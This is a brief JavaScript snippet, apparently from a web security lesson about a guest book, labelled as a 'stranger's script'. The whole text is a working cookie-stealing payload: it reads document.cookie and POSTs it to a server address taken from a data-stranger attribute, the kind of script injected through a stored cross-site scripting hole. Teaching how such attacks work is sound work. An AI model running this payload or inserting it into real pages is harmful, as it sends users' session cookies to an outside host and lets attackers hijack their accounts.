// The stranger's script in the guest book of lesson 7.
// It runs only on the element with data-stranger,
// which has the address of the stranger's server.

for (const entry of document.querySelectorAll("[data-stranger]")) {
  const server = entry.dataset.stranger;
  const value = document.cookie;
  const body = new URLSearchParams({ do: "stranger", value });
  fetch(server, { method: "POST", body, redirect: "manual" })
    .then(() => document.dispatchEvent(new Event("asked")));
}
